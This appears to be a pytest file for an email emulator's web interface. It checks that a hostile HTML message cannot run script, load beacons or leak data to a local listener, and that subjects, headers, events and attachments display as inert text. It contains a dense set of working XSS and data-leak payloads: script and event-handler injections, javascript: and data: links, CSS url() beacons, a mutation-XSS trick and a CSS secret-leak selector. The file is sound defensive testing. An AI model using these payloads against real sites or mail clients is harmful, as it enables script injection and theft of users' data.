"""A message from a hostile sender: it is shown, it runs nothing, it loads nothing, and it asks nobody."""

from __future__ import annotations

import re
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import pytest

from omnivery.emulator import Emulator
from tests.support.emulator import automations_client, mailgun_client
from tests.web.conftest import CHROMIUM, Tab


class Listener:
    """A port that counts connections: whatever reaches it has left the page."""

    def __init__(self) -> None:
        self.connections: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self._thread = threading.Thread(target=self._run)
        self._thread.start()

    def _run(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                with connection:
                    connection.settimeout(0.2)
                    with suppress(OSError):
                        self.connections.append(connection.recv(200))

    def close(self) -> None:
        with suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()


@pytest.fixture
def outside() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


RUN = "document.title = top.document.title = 'owned'; fetch('{url}/run')"
TEXT = '"><script>document.title="owned"</script><img src=x onerror=document.title="owned">'
TITLE = f"{TEXT} · Omnivery emulator"


def hostile(url: str) -> str:
    """HTML that tries what mail has tried."""
    run = RUN.format(url=url)
    return f"""<!doctype html><html><head>
    <meta http-equiv="refresh" content="0;url={url}/refresh"><base href="{url}/"><base target="_top">
    <link rel="stylesheet" href="{url}/style.css"><link rel="icon" href="{url}/icon">
    <link rel="preconnect" href="{url}"><link rel=dns-prefetch href="{url}"><link rel="prefetch" href="{url}/prefetch">
    <style>@import url("{url}/import.css"); @font-face {{ font-family: x; src: url({url}/font) }}
    body {{ background: url({url}/background); font-family: x }} p {{ list-style: url({url}/list) }}
    input[value^="s"] {{ background: url({url}/secret-s) }} b {{ content: url({url}/content) }}</style>
    </head><body onload="{run}" background="{url}/body">
    <script>{run}</script><script src="{url}/script.js"></script><ScRiPt>{run}</sCrIpT>
    <img src="{url}/image"><img src="data:," onerror="{run}"><img srcset="{url}/srcset 2x">
    <picture><source srcset="{url}/source"><img></picture>
    <svg onload="{run}"><script>{run}</script><image href="{url}/svg-image"/><use href="{url}/use#x"/>
    <animate onbegin="{run}" attributeName=x dur=1s></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;"></math>
    <iframe src="{url}/iframe" srcdoc="<script>{run}</script>"></iframe><object data="{url}/object"></object>
    <embed src="{url}/embed"><video src="{url}/video" poster="{url}/poster" autoplay></video>
    <audio src="{url}/audio" autoplay></audio>
    <form action="{url}/form"><input value="secret" autofocus onfocus="{run}"><button id="go">Send</button></form>
    <a id="javascript" href="javascript:{run}">1</a><a id="data" href="data:text/html,<script>{run}</script>">2</a>
    <a id="ping" href="#x" ping="{url}/ping" target="_self">3</a>
    <marquee onstart="{run}">m</marquee><details open ontoggle="{run}">d</details>
    <p>x</p><b>y</b><div>What is left to see</div></body></html>"""


def send(emu: Emulator, html: str) -> None:
    with mailgun_client(emu) as client:
        data = {
            "from": f"News <news@{emu.domain}>",
            "to": "ann@example.com",
            "subject": TEXT,
            "text": TEXT,
            "html": html,
            "o:tag": TEXT[:100],
            f"h:X-{TEXT[:20]}": TEXT,
            f"v:{TEXT[:20]}": TEXT,
        }
        files = [("attachment", (f"{TEXT}.html", b"<script>document.title = 'owned'</script>", "text/html"))]
        client.post(f"/{emu.domain}/messages", data=data, files=files).raise_for_status()


def test_hostile_html_is_inert(tab: Tab, emu: Emulator, outside: Listener) -> None:
    send(emu, hostile(outside.url))
    page = tab.open("/_/page/messages/1")
    frame = page.frame_locator("iframe")
    frame.get_by_text("What is left to see").wait_for()
    for name in ("javascript", "data", "ping", "go"):
        frame.locator(f"#{name}").click(force=True, no_wait_after=True)
    page.wait_for_timeout(800)
    assert outside.connections == []
    assert page.title() == TITLE
    assert page.url == f"{tab.base}/_/page/messages/1"


def test_the_document_alone_is_inert_too(tab: Tab, emu: Emulator, outside: Listener) -> None:
    """Without the iframe, by its own URL: the policy brings the sandbox along."""
    tab.page.goto(f"{tab.base}/_/page/messages/1/preview")
    tab.page.wait_for_timeout(500)
    assert tab.page.title() != "owned"
    assert tab.page.evaluate("origin") == "null"
    assert outside.connections == []


def test_no_connection_is_opened_ahead(emu: Emulator, outside: Listener) -> None:
    """Neither sandbox nor policy forbids it. Without Playwright, which starts browsers that never connect ahead."""
    send(emu, f'<link rel="preconnect" href="{outside.url}"><LINK\nrel=preconnect href={outside.url}><p>Hello</p>')
    command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=2000", "--dump-dom"]
    number = emu.statistics.messages
    shown = subprocess.run(
        [*command, f"{emu.page_url}_/page/messages/{number}/preview"], capture_output=True, timeout=60, check=True
    )
    assert b"Hello" in shown.stdout
    assert outside.connections == []


def test_remote_content_is_loaded_when_it_is_chosen_and_runs_nothing(
    tab: Tab, emu: Emulator, outside: Listener
) -> None:
    send(emu, hostile(outside.url))
    page = tab.open(f"/_/page/messages/{emu.statistics.messages}")
    page.get_by_role("link", name="Load remote content").click()
    page.wait_for_url("**remote=1")
    page.wait_for_timeout(800)
    loaded = {re.search(rb" /(\S*)", call)[1].decode() for call in outside.connections if b" /" in call}  # type: ignore[index]
    assert {"image", "style.css"} <= loaded
    assert loaded & {"run", "refresh", "script.js", "iframe", "object", "embed", "form", "ping"} == set()
    assert page.title() == TITLE


def test_every_text_of_a_message_is_text(tab: Tab) -> None:
    for view in ("text", "markup", "headers", "source", "request", "links", "files", "deliveries"):
        page = tab.open(f"/_/page/messages/1?view={view}")
        assert page.locator("h1").inner_text() == TEXT
        assert page.locator("main script, main img").count() == 0
        assert page.title() == TITLE


def test_every_text_of_a_list_is_text(tab: Tab) -> None:
    for path in ("/", "/_/page/messages", "/_/page/requests"):
        page = tab.open(path)
        assert page.locator("main script, main img").count() == 0
        assert "owned" not in page.title()
    page = tab.open(f"/_/page/messages?q={TEXT}&tag={TEXT}")
    assert page.locator("#q").input_value() == TEXT
    assert "owned" not in page.title()


def test_every_text_of_an_event_is_text(tab: Tab, emu: Emulator, outside: Listener) -> None:
    event = {"ip": "192.0.2.1", "uas": TEXT, "event_id": TEXT, "action": TEXT, "domain": TEXT, TEXT: TEXT}
    with automations_client(emu) as client:
        content = {"events": [event], "webhook_url": f"{outside.url}/{TEXT}"}
        assert client.post(f"/{emu.domain}/bot", json=content).status_code in {200, 400}
        content["webhook_url"] = f"{outside.url}/hook?a=%3Cscript%3E<b>"
        client.post(f"/{emu.domain}/bot", json=content).raise_for_status()
    for path in ("/", "/_/page/events", "/_/page/events/1", "/_/page/deliveries"):
        page: Any = tab.open(path)
        assert page.locator("main script, main img, main b b").count() == 0
        assert "owned" not in page.title()
    page = tab.open("/_/page/events")
    assert page.get_by_text(TEXT).first.is_visible()


def test_a_file_is_only_ever_downloaded(tab: Tab) -> None:
    page = tab.open("/_/page/messages/1?view=files")
    with page.expect_download() as downloading:
        page.get_by_role("link", name="Download").click()
    assert "script" in downloading.value.suggested_filename
    response = page.request.get(f"{tab.base}/_/page/messages/1/files/0")
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["content-type"] == "application/octet-stream"
    assert response.headers["x-content-type-options"] == "nosniff"


def test_the_preview_has_several_widths(tab: Tab) -> None:
    page = tab.open("/_/page/messages/1")
    for width in ("320", "375", "600", "768"):
        page.get_by_role("link", name=width, exact=True).click()
        page.wait_for_url(f"**width=w{width}")
        assert page.locator("iframe").bounding_box()["width"] == int(width)
